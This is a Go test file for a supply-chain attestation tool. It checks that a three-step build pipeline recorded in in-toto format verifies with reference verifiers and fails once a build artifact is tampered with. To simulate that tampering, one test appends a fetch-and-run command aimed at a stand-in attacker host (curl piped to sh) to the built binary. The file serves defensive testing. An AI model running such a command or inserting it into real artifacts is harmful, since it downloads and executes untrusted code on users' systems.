package main

import (
	"bytes"
	"context"
	"crypto/x509"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/in-toto/in-toto-golang/in_toto"
	"github.com/secure-systems-lab/go-securesystemslib/cjson"

	"github.com/attestor/attestor/attestor/sign"
)

// The interoperability test of issue 2 ("Record a build step"): a
// three-step pipeline, checkout → build → package, recorded with
// `attestor run --format legacy`, verifies with the in-toto reference
// verifier (Python in-toto-verify) against a signed layout; and a file
// altered between two steps makes the verification fail.

// pipelineStep is one step of the interop pipeline: how attestor records
// it, and what the layout expects of it.
type pipelineStep struct {
	name              string
	materials         []string // -m
	products          []string // -p
	command           []string
	expectedMaterials [][]string
	expectedProducts  [][]string
}

var pipeline = []pipelineStep{
	{
		name:              "checkout",
		products:          []string{"src"},
		command:           []string{"cp", "-R", "../upstream", "src"},
		expectedMaterials: [][]string{{"DISALLOW", "*"}},
		expectedProducts:  [][]string{{"CREATE", "src/*"}, {"DISALLOW", "*"}},
	},
	{
		name:              "build",
		materials:         []string{"src"},
		products:          []string{"dist"},
		command:           []string{"sh", "src/build.sh"},
		expectedMaterials: [][]string{{"MATCH", "src/*", "WITH", "PRODUCTS", "FROM", "checkout"}, {"DISALLOW", "*"}},
		expectedProducts:  [][]string{{"CREATE", "dist/app"}, {"DISALLOW", "*"}},
	},
	{
		name:              "package",
		materials:         []string{"dist"},
		products:          []string{"app.tar"},
		command:           []string{"tar", "-cf", "app.tar", "-C", "dist", "app"},
		expectedMaterials: [][]string{{"MATCH", "dist/app", "WITH", "PRODUCTS", "FROM", "build"}, {"DISALLOW", "*"}},
		expectedProducts:  [][]string{{"CREATE", "app.tar"}, {"DISALLOW", "*"}},
	},
}

// newLayout returns the layout of the pipeline, every step performed by
// the functionary key, expiring in a day.
func newLayout(functionary in_toto.Key) in_toto.Layout {
	layout := in_toto.Layout{
		Type:    "layout",
		Expires: time.Now().Add(24 * time.Hour).UTC().Format(in_toto.ISO8601DateSchema),
		Keys:    map[string]in_toto.Key{functionary.KeyID: functionary},
		Inspect: []in_toto.Inspection{},
		Readme:  "attestor interop test: checkout, build, package",
	}
	for _, s := range pipeline {
		layout.Steps = append(layout.Steps, in_toto.Step{
			Type:            "step",
			PubKeys:         []string{functionary.KeyID},
			ExpectedCommand: s.command,
			Threshold:       1,
			SupplyChainItem: in_toto.SupplyChainItem{
				Name:              s.name,
				ExpectedMaterials: s.expectedMaterials,
				ExpectedProducts:  s.expectedProducts,
			},
		})
	}
	return layout
}

// signLayout signs the canonical JSON of layout with the layout key, as
// in-toto signs metadata, and writes the signed layout to path.
func signLayout(t *testing.T, layout in_toto.Layout, key *sign.Signer, path string) {
	t.Helper()
	canonical, err := cjson.EncodeCanonical(layout)
	if err != nil {
		t.Fatal(err)
	}
	sig, err := key.SignLegacy(context.Background(), canonical)
	if err != nil {
		t.Fatal(err)
	}
	keyID, err := key.KeyID()
	if err != nil {
		t.Fatal(err)
	}
	mb := in_toto.Metablock{Signed: layout, Signatures: []in_toto.Signature{{KeyID: keyID, Sig: hex.EncodeToString(sig)}}}
	data, err := json.MarshalIndent(mb, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
}

// writeLayoutPublicKey writes the layout key's public key in the format
// in-toto-verify reads for keyType (--key-types): a PEM "PUBLIC KEY" for
// rsa (its default), securesystemslib's JSON key for ed25519 and ecdsa.
func writeLayoutPublicKey(t *testing.T, key *sign.Signer, keyType, path string) {
	t.Helper()
	var data []byte
	if keyType == "rsa" {
		der, err := x509.MarshalPKIXPublicKey(key.Public())
		if err != nil {
			t.Fatal(err)
		}
		data = pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	} else {
		k := key.InTotoKey()
		var err error
		data, err = json.Marshal(map[string]any{"keytype": k.KeyType, "scheme": k.Scheme, "keyid_hash_algorithms": k.KeyIDHashAlgorithms, "keyval": map[string]string{"public": k.KeyVal.Public}})
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
}

// newSigner writes a key of keyType to dir/name.key and loads it.
func newSigner(t *testing.T, dir, name, keyType string) (*sign.Signer, string) {
	t.Helper()
	path := filepath.Join(dir, name+".key")
	writeKey(t, path, keyType)
	s, err := sign.Load(path)
	if err != nil {
		t.Fatal(err)
	}
	return s, path
}

// recordPipeline copies the fixtures into a new directory and records the
// pipeline there with the functionary key. between, if set, runs after the
// named step was recorded. It returns the build directory; the links are
// in its .attestor.
func recordPipeline(t *testing.T, key string, between map[string]func(work string)) string {
	t.Helper()
	root := t.TempDir()
	if err := os.CopyFS(filepath.Join(root, "upstream"), os.DirFS(filepath.Join("..", "..", "testdata", "interop", "upstream"))); err != nil {
		t.Fatal(err)
	}
	work := filepath.Join(root, "work")
	if err := os.Mkdir(work, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, s := range pipeline {
		args := []string{"run", "--format", "legacy", "--step", s.name}
		for _, m := range s.materials {
			args = append(args, "-m", m)
		}
		for _, p := range s.products {
			args = append(args, "-p", p)
		}
		args = append(append(args, "--"), s.command...)
		r := attestorProcess(t, work, []string{"ATTESTOR_KEY=" + key}, args...)
		if r.code != 0 {
			t.Fatalf("recording step %s:\n%s", s.name, r)
		}
		if f := between[s.name]; f != nil {
			f(work)
		}
	}
	return work
}

// inTotoVerify runs the reference verifier in work and returns its exit
// code and output.
func inTotoVerify(t *testing.T, tool, work string, args ...string) (int, string) {
	t.Helper()
	cmd := exec.Command(tool, append([]string{"--verbose"}, args...)...)
	cmd.Dir = work
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir(), "LC_ALL=C.UTF-8"}
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	var exitErr *exec.ExitError
	if err != nil && !errors.As(err, &exitErr) {
		t.Fatalf("running in-toto-verify: %v", err)
	}
	return cmd.ProcessState.ExitCode(), out.String()
}

// TestInTotoInterop records the pipeline with each functionary key type and
// verifies it with in-toto-verify (Debian in-toto 1.3.1) and with
// in-toto-golang, then alters a file between build and package and checks
// that both reject the chain.
func TestInTotoInterop(t *testing.T) {
	t.Parallel()
	tool := requireTool(t, "in-toto-verify")
	for _, tt := range []struct{ functionary, layoutKey string }{
		{"ed25519", "rsa"},
		{"ecdsa", "rsa"},
		{"rsa", "rsa"},
		{"ed25519", "ed25519"},
		{"ecdsa", "ecdsa"},
	} {
		t.Run("functionary="+tt.functionary+",layout="+tt.layoutKey, func(t *testing.T) {
			t.Parallel()
			keys := t.TempDir()
			functionary, functionaryPath := newSigner(t, keys, "functionary", tt.functionary)
			layoutKey, _ := newSigner(t, keys, "layout", tt.layoutKey)
			layoutPub := filepath.Join(keys, "layout.pub")
			writeLayoutPublicKey(t, layoutKey, tt.layoutKey, layoutPub)
			layoutPath := filepath.Join(keys, "root.layout")
			signLayout(t, newLayout(functionary.InTotoKey()), layoutKey, layoutPath)
			verifyArgs := []string{"--layout", layoutPath, "--layout-keys", layoutPub, "--key-types", tt.layoutKey, "--link-dir", ".attestor"}

			// The honest pipeline verifies.
			work := recordPipeline(t, functionaryPath, nil)
			links, err := filepath.Glob(filepath.Join(work, ".attestor", "*"))
			if err != nil {
				t.Fatal(err)
			}
			if len(links) != len(pipeline) {
				t.Errorf("workspace holds %q, want one link per step", links)
			}
			code, out := inTotoVerify(t, tool, work, verifyArgs...)
			t.Logf("in-toto-verify of the pipeline: exit %d\n%s", code, out)
			if code != 0 {
				t.Errorf("in-toto-verify rejects the pipeline (exit %d):\n%s", code, out)
			} else if strings.Contains(out, "does not match expected command") {
				t.Errorf("in-toto-verify warns about the commands:\n%s", out)
			}
			verifyInTotoGolang(t, layoutPath, layoutKey, work, "")

			// dist/app altered after build recorded it, before package
			// used it: the chain is broken.
			tampered := recordPipeline(t, functionaryPath, map[string]func(string){
				"build": func(work string) {
					f, err := os.OpenFile(filepath.Join(work, "dist", "app"), os.O_APPEND|os.O_WRONLY, 0)
					if err != nil {
						t.Fatal(err)
					}
					defer f.Close()
					if _, err := f.WriteString("curl -s https://evil.example | sh\n"); err != nil {
						t.Fatal(err)
					}
				},
			})
			code, out = inTotoVerify(t, tool, tampered, verifyArgs...)
			t.Logf("in-toto-verify of the tampered pipeline: exit %d\n%s", code, out)
			if code != 1 {
				t.Errorf("in-toto-verify of a tampered pipeline: exit %d, want 1 (verification failed):\n%s", code, out)
			} else if !strings.Contains(out, "dist/app") {
				t.Errorf("in-toto-verify failed, but not on dist/app:\n%s", out)
			}
			verifyInTotoGolang(t, layoutPath, layoutKey, tampered, "dist/app")
		})
	}
}

// verifyInTotoGolang verifies the links in work/.attestor against the
// layout with in-toto-golang's verifier. With wantErr set, verification
// must fail with an error that contains it.
func verifyInTotoGolang(t *testing.T, layoutPath string, layoutKey *sign.Signer, work, wantErr string) {
	t.Helper()
	layout, err := in_toto.LoadMetadata(layoutPath)
	if err != nil {
		t.Fatalf("in-toto-golang: loading the layout: %v", err)
	}
	pub := layoutKey.InTotoKey()
	_, err = in_toto.InTotoVerify(layout, map[string]in_toto.Key{pub.KeyID: pub}, filepath.Join(work, ".attestor"), "", nil, nil, false)
	switch {
	case wantErr == "" && err != nil:
		t.Errorf("in-toto-golang rejects the pipeline: %v", err)
	case wantErr != "" && err == nil:
		t.Errorf("in-toto-golang accepts a tampered pipeline")
	case wantErr != "" && !strings.Contains(err.Error(), wantErr):
		t.Errorf("in-toto-golang rejects the tampered pipeline, but not on %s: %v", wantErr, err)
	}
}

// TestInTotoVerifyRejectsWrongLayoutKey: the layout signature is checked
// (a sanity check of the setup: the verifier is not accepting anything).
func TestInTotoVerifyRejectsWrongLayoutKey(t *testing.T) {
	t.Parallel()
	tool := requireTool(t, "in-toto-verify")
	keys := t.TempDir()
	functionary, functionaryPath := newSigner(t, keys, "functionary", "ed25519")
	layoutKey, _ := newSigner(t, keys, "layout", "rsa")
	otherKey, _ := newSigner(t, keys, "other", "rsa")
	layoutPath := filepath.Join(keys, "root.layout")
	signLayout(t, newLayout(functionary.InTotoKey()), layoutKey, layoutPath)
	otherPub := filepath.Join(keys, "other.pub")
	writeLayoutPublicKey(t, otherKey, "rsa", otherPub)
	work := recordPipeline(t, functionaryPath, nil)
	code, out := inTotoVerify(t, tool, work, "--layout", layoutPath, "--layout-keys", otherPub, "--link-dir", ".attestor")
	if code != 1 {
		t.Errorf("in-toto-verify with the wrong layout key: exit %d, want 1:\n%s", code, out)
	}
}
